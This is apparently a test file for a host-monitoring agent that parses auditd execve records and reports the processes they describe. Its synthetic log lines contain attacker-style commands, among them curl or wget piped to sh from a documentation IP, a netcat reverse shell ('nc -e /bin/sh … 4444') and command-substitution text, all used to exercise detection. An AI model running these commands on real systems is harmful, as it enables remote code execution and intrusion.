import { test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { appendFileSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { FakeClock } from "../../core/index.ts";
import { processRecord, type ProcessRecord } from "../../protocol/index.ts";
import { AuditExecRules, AuditExecSource, AuditLogParser, auditFields, auditText, chooseAuditLog, toExecNotice, AUDIT_RULE_KEY, type AuditExec } from "./audit-exec.ts";
import { JsonFileTailState } from "./file-tail.ts";
import { FakeProcTree } from "./proc-fs.ts";
import { ProcessCollector, type ExecNotice } from "./processes.ts";

const GS = "\x1d"; // auditd's ENRICHED separator
const ENRICH_ROOT = `${GS}ARCH=x86_64 SYSCALL=execve AUID="alice" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"`;

/** One `curl … | sh` stage as auditd 3.0 writes it (RAW format): the argument with spaces is hex. */
const CURL_EVENT = [
  `type=SYSCALL msg=audit(1767229200.150:4101): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1e2a0f0 a1=55d0c1e29d10 a2=55d0c1e2b3a0 a3=8 items=2 ppid=700 pid=801 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" subj=unconfined key="hostward_exec"`,
  `type=EXECVE msg=audit(1767229200.150:4101): argc=3 a0="curl" a1="-fsSL" a2=687474703A2F2F3139382E35312E3130302E372F782E7368`,
  `type=CWD msg=audit(1767229200.150:4101): cwd="/home/alice"`,
  `type=PATH msg=audit(1767229200.150:4101): item=0 name="/usr/bin/curl" inode=262401 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
  `type=PATH msg=audit(1767229200.150:4101): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=264012 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
  `type=PROCTITLE msg=audit(1767229200.150:4101): proctitle=6375726C002D6673534C00687474703A2F2F3139382E35312E3130302E372F782E7368`,
];

function feed(p: AuditLogParser, lines: string[], now = 0): AuditExec[] {
  return lines.flatMap((l) => p.push(l, now));
}

test("AGT-3 audit: an execve event (SYSCALL, EXECVE, CWD, PATH, PROCTITLE) becomes one exec with pid, ppid, users, exe, decoded arguments and cwd", () => {
  const p = new AuditLogParser();
  const out = feed(p, CURL_EVENT);
  assert.equal(out.length, 1);
  const e = out[0]!;
  assert.deepEqual(e, {
    id: "1767229200.150:4101", serial: 4101, ts: 1_767_229_200_150, syscall: "execve", pid: 801, ppid: 700,
    uid: 1000, euid: 1000, auid: 1000, ses: 3, comm: "curl", exe: "/usr/bin/curl", tty: "pts0", key: "hostward_exec",
    argc: 3, args: ["curl", "-fsSL", "http://198.51.100.7/x.sh"], truncated: false, cwd: "/home/alice",
  });
  assert.equal(p.pending, 0, "PROCTITLE closes the event");
  assert.deepEqual(p.counts, { lines: 6, execs: 1, failed: 0, otherSyscalls: 0, otherTypes: 0, malformed: 0, unfinished: 0 });
});

test("AGT-3 audit: ENRICHED format (0x1d, translated names) and hex-encoded exe/comm/args with spaces and quotes; auid unset is absent", () => {
  const p = new AuditLogParser();
  const out = feed(p, [
    `type=SYSCALL msg=audit(1767229201.002:4102): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=1 pid=4242 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=6B776F726B65722064 exe=2F746D702F2E782F6B776F726B65722064 key=(null)${ENRICH_ROOT}`,
    `type=EXECVE msg=audit(1767229201.002:4102): argc=3 a0="sh" a1="-c" a2=73617920226869223B202428696429`,
    `type=CWD msg=audit(1767229201.002:4102): cwd=2F746D702F6120622F78`,
    `type=PROCTITLE msg=audit(1767229201.002:4102): proctitle=7368002D63006563686F206869`,
  ]);
  assert.equal(out.length, 1);
  const e = out[0]!;
  assert.equal(e.exe, "/tmp/.x/kworker d");
  assert.equal(e.comm, "kworker d");
  assert.deepEqual(e.args, ["sh", "-c", 'say "hi"; $(id)'], "attacker text is decoded as data, never interpreted");
  assert.equal(e.cwd, "/tmp/a b/x");
  assert.equal(e.auid, undefined);
  assert.equal(e.ses, undefined);
  assert.equal(e.key, undefined);
  assert.equal(e.tty, undefined);
  assert.equal(e.uid, 0);
});

test("AGT-3 audit: interleaved events are grouped by their audit(TS:SERIAL) id", () => {
  const p = new AuditLogParser();
  const a = (r: string) => `type=${r}`;
  const out = feed(p, [
    a(`SYSCALL msg=audit(1767229202.010:5001): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=700 pid=900 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="true" exe="/usr/bin/true" key="hostward_exec"`),
    a(`SYSCALL msg=audit(1767229202.011:5002): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=700 pid=901 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="id" exe="/usr/bin/id" key="hostward_exec"`),
    a(`EXECVE msg=audit(1767229202.011:5002): argc=2 a0="id" a1="-u"`),
    a(`EXECVE msg=audit(1767229202.010:5001): argc=1 a0="/bin/true"`),
    a(`CWD msg=audit(1767229202.011:5002): cwd="/srv"`),
    a(`CWD msg=audit(1767229202.010:5001): cwd="/home/alice"`),
    a(`PROCTITLE msg=audit(1767229202.010:5001): proctitle="/bin/true"`),
    a(`PROCTITLE msg=audit(1767229202.011:5002): proctitle=6964002D75`),
  ]);
  assert.deepEqual(out.map((e) => [e.pid, e.exe, e.args, e.cwd]), [
    [900, "/usr/bin/true", ["/bin/true"], "/home/alice"],
    [901, "/usr/bin/id", ["id", "-u"], "/srv"],
  ]);
});

/** A 9000-byte argument as the kernel splits it: a1_len, then a1[0], a1[1], a1[2] over three EXECVE records. */
function longArgEvent(serial: number): string[] {
  const hex = "41".repeat(9000);
  const head = `type=EXECVE msg=audit(1767229203.500:${serial}):`;
  return [
    `type=SYSCALL msg=audit(1767229203.500:${serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=700 pid=902 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="echo" exe="/usr/bin/echo" key="hostward_exec"`,
    `${head} argc=3 a0="/bin/echo" a1_len=18000 a1[0]=${hex.slice(0, 7466)}`,
    `${head}  a1[1]=${hex.slice(7466, 14_932)}`,
    `${head}  a1[2]=${hex.slice(14_932)} a2="shortarg"`,
    `type=CWD msg=audit(1767229203.500:${serial}): cwd="/tmp"`,
    `type=PROCTITLE msg=audit(1767229203.500:${serial}): proctitle=2F62696E2F6563686F0041414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141414141`,
  ];
}

test("AGT-3 audit: a long argument split over EXECVE records (aN_len, aN[k]) is joined; the command line is bounded to 4 KB", () => {
  const big = new AuditLogParser({ maxCommandBytes: 20_000 });
  const [full] = feed(big, longArgEvent(6001));
  assert.deepEqual(full!.args, ["/bin/echo", "A".repeat(9000), "shortarg"]);
  assert.equal(full!.truncated, false);

  const p = new AuditLogParser();
  const [e] = feed(p, longArgEvent(6002));
  assert.equal(e!.truncated, true);
  assert.equal(e!.argc, 3);
  assert.ok(e!.args.join(" ").length <= 4096, `bounded: ${e!.args.join(" ").length}`);
  assert.equal(e!.args[0], "/bin/echo");
  assert.ok(e!.args[1]!.startsWith("AAAA") && e!.args[1]!.length > 4000);
});

test("AGT-3 audit: failed execs and other syscalls are counted, not returned; malformed lines are counted and never stop the parser", () => {
  const p = new AuditLogParser();
  const out = feed(p, [
    `type=SYSCALL msg=audit(1767229204.001:7001): arch=c000003e syscall=59 success=no exit=-2 a0=1 a1=2 a2=3 a3=8 items=1 ppid=700 pid=903 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="hostward_exec"`,
    `type=CWD msg=audit(1767229204.001:7001): cwd="/home/alice"`,
    `type=PROCTITLE msg=audit(1767229204.001:7001): proctitle="-bash"`,
    `type=SYSCALL msg=audit(1767229204.002:7002): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=0 a3=0 items=1 ppid=1 pid=500 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="sshd" exe="/usr/sbin/sshd" key="shadow"`,
    `type=PATH msg=audit(1767229204.002:7002): item=0 name="/etc/shadow" inode=1 dev=fe:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
    `type=PROCTITLE msg=audit(1767229204.002:7002): proctitle=2F7573722F7362696E2F73736864002D44`,
    `type=USER_LOGIN msg=audit(1767229204.100:7003): pid=601 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr=203.0.113.7 terminal=/dev/pts/0 res=success'`,
    `garbage that is not an audit record`,
    `type=SYSCALL msg=audit(1767229204.2`,
    `type=SYSCALL msg=audit(1767229204.200:7004): arch=c000003e syscall=59 success=yes exit=0 comm="x"`,
    `type=PROCTITLE msg=audit(1767229204.200:7004): proctitle="x"`,
    "",
    ...CURL_EVENT,
  ]);
  assert.deepEqual(out.map((e) => e.pid), [801], "the good event after the bad lines still comes out");
  assert.equal(p.counts.failed, 1);
  assert.equal(p.counts.otherSyscalls, 1);
  assert.equal(p.counts.otherTypes, 1);
  assert.equal(p.counts.malformed, 3, "garbage, a cut line, a SYSCALL without pid");
  assert.equal(p.pending, 0);
});

test("AGT-3 audit: execveat and 32-bit execve count; an event whose PROCTITLE never comes is finished by the timeout, with PROCTITLE's words when EXECVE is missing", () => {
  const p = new AuditLogParser({ eventTimeoutMs: 2000 });
  const out = feed(p, [
    `type=SYSCALL msg=audit(1767229205.001:8001): arch=c000003e syscall=322 success=yes exit=0 a0=3 a1=7f a2=7f a3=7f items=2 ppid=700 pid=904 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="memfd" exe=2F6D656D66643A78202864656C6574656429 key="hostward_exec"`,
    `type=EXECVE msg=audit(1767229205.001:8001): argc=1 a0="x"`,
    `type=PROCTITLE msg=audit(1767229205.001:8001): proctitle="x"`,
    `type=SYSCALL msg=audit(1767229205.002:8002): arch=40000003 syscall=11 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=700 pid=905 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="old32" exe="/opt/old32" key="hostward_exec"`,
    `type=EXECVE msg=audit(1767229205.002:8002): argc=2 a0="old32" a1="-v"`,
    `type=PROCTITLE msg=audit(1767229205.002:8002): proctitle=6F6C643332002D76`,
    `type=SYSCALL msg=audit(1767229205.003:8003): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=700 pid=906 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="hostward_exec"`,
    `type=PROCTITLE msg=audit(1767229205.003:8003): proctitle=7368002D63006563686F206869`,
    `type=SYSCALL msg=audit(1767229205.004:8004): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=700 pid=907 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="true" exe="/usr/bin/true" key="hostward_exec"`,
    `type=EXECVE msg=audit(1767229205.004:8004): argc=1 a0="true"`,
  ], 1000);
  assert.deepEqual(out.map((e) => [e.syscall, e.pid, e.exe, e.args]), [
    ["execveat", 904, "/memfd:x (deleted)", ["x"]],
    ["execve", 905, "/opt/old32", ["old32", "-v"]],
    ["execve", 906, "/usr/bin/dash", ["sh", "-c", "echo hi"]],
  ]);
  assert.equal(out[2]!.truncated, true, "PROCTITLE is at most 128 bytes: marked cut");
  assert.equal(p.pending, 1);
  assert.deepEqual(p.flush(2500), [], "not yet 2 s");
  const late = p.flush(3000);
  assert.deepEqual(late.map((e) => [e.pid, e.args]), [[907, ["true"]]]);
  assert.equal(p.counts.unfinished, 1);
});

test("AGT-3 audit: pending events are bounded (the oldest is finished early); node= prefixes keep hosts apart", () => {
  const p = new AuditLogParser({ maxPending: 2 });
  const sys = (node: string, serial: number, pid: number) => `node=${node} type=SYSCALL msg=audit(1767229206.000:${serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=1 pid=${pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="t" exe="/usr/bin/true" key=(null)`;
  const out = feed(p, [sys("web1", 1, 11), sys("web2", 1, 12), sys("web1", 2, 13)]);
  assert.deepEqual(out.map((e) => [e.id, e.pid]), [["web1:1767229206.000:1", 11]]);
  assert.equal(p.pending, 2);
  assert.equal(p.counts.unfinished, 1);
  // 10 000 unrelated PATH records never hold more than maxPending events
  for (let i = 0; i < 10_000; i++) p.push(`type=PATH msg=audit(1767229207.000:${100 + i}): item=0 name="/etc/x" inode=1 dev=fe:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL`);
  assert.ok(p.pending <= 2);
});

test("AGT-3 audit: field tokenizer is linear on hostile lines (megabyte values, unterminated quotes, no '=')", () => {
  const t0 = performance.now();
  auditFields("a ".repeat(500_000) + "=x");
  auditFields(`x="${"y".repeat(1_000_000)}`);
  auditFields("=".repeat(1_000_000));
  const p = new AuditLogParser();
  p.push(`type=EXECVE msg=audit(1767229208.000:9001): argc=1 a0=${"4".repeat(999_999)}`);
  assert.ok(performance.now() - t0 < 2000, `took ${performance.now() - t0} ms`);
  assert.equal(auditText("(null)"), undefined);
  assert.equal(auditText('"plain"'), "plain");
  assert.equal(auditText("68690A"), "hi\n");
});

// ---- ProcessCollector.noteExecs: one producer of process records ----

const BTIME = 1_767_225_600; // 2026-01-01T00:00:00Z; clock at BTIME + 3600 s = audit time 1767229200
const SSH_LINE = "   0: 0200000A:0016 077100CB:C822 01 00000000:00000000 02:0009F1A2 00000000     0        0 9001 4 0000000035a7d83a 20 4 31 10 -1";

function setup(t: { after: (fn: () => void | Promise<void>) => void }, opts: Record<string, unknown> = {}) {
  const d = mkdtempSync(join(tmpdir(), "hw-audit-"));
  t.after(() => rmSync(d, { recursive: true, force: true }));
  const root = join(d, "proc");
  const tree = new FakeProcTree(root, { btime: BTIME });
  writeFileSync(join(d, "passwd"), "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
  const bin = (name: string) => {
    const p = join(d, name);
    writeFileSync(p, `#!binary ${name}\n`);
    return p;
  };
  const bash = bin("bash");
  tree.add({ pid: 1, comm: "systemd", ppid: 0, exe: bin("systemd"), cmdline: ["/sbin/init"], startTicks: 10 });
  tree.add({ pid: 500, comm: "sshd", ppid: 1, exe: bin("sshd"), cmdline: ["sshd: /usr/sbin/sshd -D"], startTicks: 500 });
  tree.add({ pid: 601, comm: "sshd", ppid: 500, uid: 1000, exe: join(d, "sshd"), cmdline: "sshd: alice@pts/0\0\0", startTicks: 300_010, socketInodes: [9001] });
  tree.add({ pid: 700, comm: "bash", ppid: 601, uid: 1000, exe: bash, cmdline: ["-bash"], startTicks: 300_020 });
  tree.setNet("tcp", [SSH_LINE]);
  const clock = new FakeClock((BTIME + 3600) * 1000);
  const records: ProcessRecord[] = [];
  const c = new ProcessCollector({ root, passwdPath: join(d, "passwd"), clock, execGraceMs: 0, onRecords: (rs) => void records.push(...rs), ...opts });
  let seen = 0;
  const take = () => records.slice(seen, (seen = records.length));
  return { d, tree, clock, c, take, records, bin, bash };
}

const notice = (n: Partial<ExecNotice> & { pid: number; ts: number }): ExecNotice => ({ ppid: 700, args: [], ref: `a${n.ts}.1`, ...n });
const sha = (s: string) => createHash("sha256").update(s).digest("hex");

test("AGT-3 audit: an exec the /proc scan never saw is reported from audit — command line, cwd, user, hash, parent bash, ancestors, ssh session", async (t) => {
  const { c, take, clock, bin } = setup(t);
  await c.baseline();
  const curl = bin("curl");
  const now = clock.now();
  await c.noteExecs([toExecNotice({ ...feed(new AuditLogParser(), CURL_EVENT)[0]!, exe: curl, ts: now + 150 })]);
  await c.scan(); // the process is gone: the scan adds nothing
  const recs = take();
  assert.equal(recs.length, 1);
  const r = recs[0]!;
  assert.ok(processRecord.safeParse(r).success, JSON.stringify(processRecord.safeParse(r).error?.issues));
  assert.equal(r.event.action, "start");
  assert.equal(r.ts, now + 150);
  assert.match(r.id, /^proc-0f1e2d3c4b5a-801-a\d+\.4101-start$/);
  assert.deepEqual({ pid: r.process.pid, ppid: r.process.ppid, name: r.process.name, exe: r.process.executable, cmd: r.process.command_line, cwd: r.process.cwd, user: r.process.user, start: r.process.start }, {
    pid: 801, ppid: 700, name: "curl", exe: curl, cmd: "curl -fsSL http://198.51.100.7/x.sh", cwd: "/home/alice", user: { name: "alice", id: 1000 }, start: now + 150,
  });
  assert.equal(r.process.hash?.sha256, sha("#!binary curl\n"));
  assert.equal(r.process.parent?.pid, 700);
  assert.equal(r.process.parent?.name, "bash");
  assert.equal(r.process.parent?.command_line, "-bash");
  assert.deepEqual(r.process.ancestors?.map((a) => a.pid), [700, 601, 500, 1]);
  assert.deepEqual(r.session, { sshdPid: 601, user: "alice", sourceIp: "203.0.113.7" });
  assert.equal(c.stats.execStarts, 1);
});

test("AGT-3 audit: a process the scan already reported is not reported twice; one audit sees first is tracked so the scan does not report it again", async (t) => {
  const { c, take, clock, tree, bin } = setup(t);
  await c.baseline();
  const sleep = bin("sleep");
  // 1. the scan sees it first (after its exec), audit's record arrives later
  clock.advance(100);
  tree.add({ pid: 810, comm: "sleep", ppid: 700, uid: 1000, exe: sleep, cmdline: ["sleep", "30"], startTicks: 360_005 });
  clock.advance(150);
  await c.scan();
  assert.deepEqual(take().map((r) => [r.process.pid, r.event.action]), [[810, "start"]]);
  await c.noteExecs([notice({ pid: 810, ts: (BTIME + 3600) * 1000 + 60, exe: sleep, args: ["sleep", "30"], uid: 1000 })]);
  assert.deepEqual(take(), [], "duplicate dropped");
  assert.equal(c.stats.execDuplicates, 1);

  // 2. audit first, while it still runs: reported once, with /proc's start time; its exit later
  tree.add({ pid: 811, comm: "sleep", ppid: 700, uid: 1000, exe: sleep, cmdline: ["sleep", "40"], startTicks: 360_030 });
  const startMs = (BTIME + 3600) * 1000 + 300;
  await c.noteExecs([notice({ pid: 811, ts: startMs + 2, exe: sleep, args: ["sleep", "40"], uid: 1000 })]);
  const [a] = take();
  assert.equal(a?.id, "proc-0f1e2d3c4b5a-811-360030-start", "the id the scan would give: the server dedups too");
  assert.equal(a?.process.start, startMs);
  clock.advance(250);
  await c.scan();
  await c.sample();
  assert.deepEqual(take().filter((r) => r.event.action === "start"), [], "the scan does not report it again");
  tree.remove(811);
  await c.scan();
  assert.deepEqual(take().map((r) => [r.process.pid, r.event.action]), [[811, "exit"]]);
  // 3. audit's record of 811 arriving again (a re-read log) is a duplicate of the gone process
  await c.noteExecs([notice({ pid: 811, ts: startMs + 2, exe: sleep, args: ["sleep", "40"] })]);
  assert.deepEqual(take(), []);
});

test("AGT-3 audit: a fork seen before its exec (exec grace) is reported once, as what it exec'd", async (t) => {
  const { c, take, clock, tree, bin, bash } = setup(t, { execGraceMs: 25 });
  await c.baseline();
  clock.advance(250);
  tree.add({ pid: 820, comm: "bash", ppid: 700, uid: 1000, exe: bash, cmdline: ["-bash"], startTicks: 360_010 });
  await c.scan();
  assert.deepEqual(take(), [], "deferred: still its parent's image");
  const wget = bin("wget");
  await c.noteExecs([notice({ pid: 820, ts: clock.now(), exe: wget, args: ["wget", "-q", "http://198.51.100.7/m"], comm: "wget" })]);
  tree.remove(820);
  await c.scan();
  const recs = take();
  assert.deepEqual(recs.map((r) => [r.process.pid, r.event.action, r.process.executable, r.process.command_line]), [
    [820, "start", wget, "wget -q http://198.51.100.7/m"],
    [820, "exit", wget, undefined],
  ]);
  assert.equal(c.stats.missed, 0);
});

test("AGT-3 audit: a second exec of a process is a further start; a reused pid is not mistaken for the process audit saw; a gone shell is its child's parent", async (t) => {
  const { c, take, clock, tree, bin } = setup(t);
  await c.baseline();
  const base = clock.now();
  const sh = bin("sh"), curl = bin("curl");
  // sh -c 'curl … | sh': the short shell is gone before anything reads it, then its child curl
  await c.noteExecs([
    notice({ pid: 830, ppid: 700, ts: base + 1, exe: sh, args: ["sh", "-c", "curl -s http://198.51.100.7/i | sh"], comm: "sh", ref: "a1.1" }),
    notice({ pid: 831, ppid: 830, ts: base + 3, exe: curl, args: ["curl", "-s", "http://198.51.100.7/i"], comm: "curl", ref: "a1.2" }),
    notice({ pid: 830, ppid: 700, ts: base + 4, exe: curl, args: ["curl", "again"], comm: "curl", ref: "a1.3" }),
  ]);
  const recs = take();
  assert.deepEqual(recs.map((r) => r.id), ["proc-0f1e2d3c4b5a-830-a1.1-start", "proc-0f1e2d3c4b5a-831-a1.2-start", "proc-0f1e2d3c4b5a-830-a1.1-start1"]);
  assert.equal(recs[1]!.process.parent?.command_line, "sh -c curl -s http://198.51.100.7/i | sh");
  assert.deepEqual(recs[1]!.process.ancestors?.map((a) => a.pid), [830, 700, 601, 500, 1]);
  for (const r of recs) assert.ok(processRecord.safeParse(r).success);

  // pid 840 runs a newer process than the one audit saw (started 2 s after that exec)
  tree.add({ pid: 840, comm: "nginx", ppid: 1, exe: bin("nginx"), cmdline: ["nginx"], startTicks: 360_200 });
  clock.advance(2500);
  await c.scan();
  take();
  await c.noteExecs([notice({ pid: 840, ts: base + 10, exe: bin("nc"), args: ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], comm: "nc", ref: "a1.9" })]);
  const [old] = take();
  assert.equal(old?.id, "proc-0f1e2d3c4b5a-840-a1.9-start");
  assert.equal(old?.process.command_line, "nc -e /bin/sh 198.51.100.7 4444");
  await c.sample();
  assert.equal(take().filter((r) => r.event.action === "start").length, 0, "the running nginx is not re-reported");
});

test("AGT-11 audit: exec notices are bounded per second (counted as dropped)", async (t) => {
  const { c, take, clock } = setup(t, { maxExecNoticesPerSec: 3 });
  await c.baseline();
  const ns = Array.from({ length: 5 }, (_, i) => notice({ pid: 900 + i, ts: clock.now(), exe: "/usr/bin/true", args: ["true"], ref: `a${i}` }));
  await c.noteExecs(ns);
  assert.equal(take().length, 3);
  assert.equal(c.stats.dropped, 2);
  clock.advance(1000);
  await c.noteExecs(ns.slice(3));
  assert.equal(take().length, 2);
});

test("AGT-3 audit: a recorded audit.log tailed by AuditExecSource feeds the collector (rotation-safe tail, positions kept)", async (t) => {
  const { d, c, take, clock } = setup(t);
  await c.baseline();
  const log = join(d, "audit.log");
  const at = (clock.now() / 1000).toFixed(3);
  // recorded shape: a daemon line, a login, one curl event, a failed exec, the enriched format
  writeFileSync(log, [
    `type=DAEMON_START msg=audit(${at}:100): op=start ver=3.0.9 format=enriched kernel=6.1.0-18-amd64 auid=4294967295 pid=431 uid=0 ses=4294967295 res=success${GS}AUID="unset" UID="root"`,
    ...CURL_EVENT.map((l) => l.replace("1767229200.150", at)),
    `type=SYSCALL msg=audit(${at}:4102): arch=c000003e syscall=59 success=no exit=-13 a0=1 a1=2 a2=3 a3=8 items=1 ppid=700 pid=850 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="hostward_exec"${ENRICH_ROOT}`,
    `type=PROCTITLE msg=audit(${at}:4102): proctitle="-bash"`,
    "",
  ].join("\n"));
  const src = new AuditExecSource({ path: log, state: new JsonFileTailState(join(d, "tail.json")), sink: c, startAtEnd: false, pollMs: 20 });
  await src.start();
  t.after(() => src.stop());
  const until = async (n: number) => {
    for (let i = 0; i < 200 && src.stats.delivered < n; i++) await new Promise((r) => setTimeout(r, 10));
  };
  await until(1);
  const [r] = take();
  assert.equal(r?.process.pid, 801);
  assert.equal(r?.process.command_line, "curl -fsSL http://198.51.100.7/x.sh");
  assert.equal(r?.process.parent?.name, "bash");
  assert.equal(src.parser.counts.failed, 1);
  assert.equal(src.parser.counts.otherTypes, 1);
  // appended after rotation (auditd renames audit.log to audit.log.1 and opens a new one)
  const { renameSync } = await import("node:fs");
  renameSync(log, `${log}.1`);
  writeFileSync(log, "");
  appendFileSync(log, longArgEvent(6003).map((l) => l.replace("1767229203.500", at).replace("pid=902", "pid=860")).join("\n") + "\n");
  await until(2);
  const [long] = take();
  assert.equal(long?.process.pid, 860);
  assert.ok((long?.process.command_line?.length ?? 0) <= 4096);
  assert.equal(src.parser.counts.malformed, 0);
});

test("AGT-3 audit: --audit-rules adds the execve rule for b64 and b32 under its own key and removes exactly it; --no-audit and a stopped auditd turn the source off", async () => {
  const calls: string[] = [];
  const rules = new AuditExecRules({
    run: async (cmd, args) => {
      calls.push(`${cmd} ${args.join(" ")}`);
      return args.includes("arch=b32") && args[0] === "-a" ? { code: 255, output: "Error sending add rule data request (Invalid argument)" } : { code: 0, output: "" };
    },
  });
  const inst = await rules.install();
  assert.equal(inst.ok, true, "a 64-bit-only kernel refusing b32 is fine");
  assert.match(inst.message, /b32 rule refused/);
  const rm = await rules.remove();
  assert.equal(rm.ok, true);
  assert.deepEqual(calls, [
    `auditctl -a always,exit -F arch=b64 -S execve -S execveat -k ${AUDIT_RULE_KEY}`,
    `auditctl -a always,exit -F arch=b32 -S execve -S execveat -k ${AUDIT_RULE_KEY}`,
    `auditctl -d always,exit -F arch=b64 -S execve -S execveat -k ${AUDIT_RULE_KEY}`,
  ]);
  assert.deepEqual(chooseAuditLog({ off: true }), { off: "--no-audit" });
  const d = mkdtempSync(join(tmpdir(), "hw-noauditd-"));
  try {
    assert.deepEqual(chooseAuditLog({ procRoot: d }), { off: "auditd is not running" });
    assert.ok("off" in chooseAuditLog({ procRoot: d, rules: true }));
    assert.deepEqual(chooseAuditLog({ procRoot: d, path: "/x/audit.log" }), { path: "/x/audit.log", rules: false });
  } finally {
    rmSync(d, { recursive: true, force: true });
  }
});
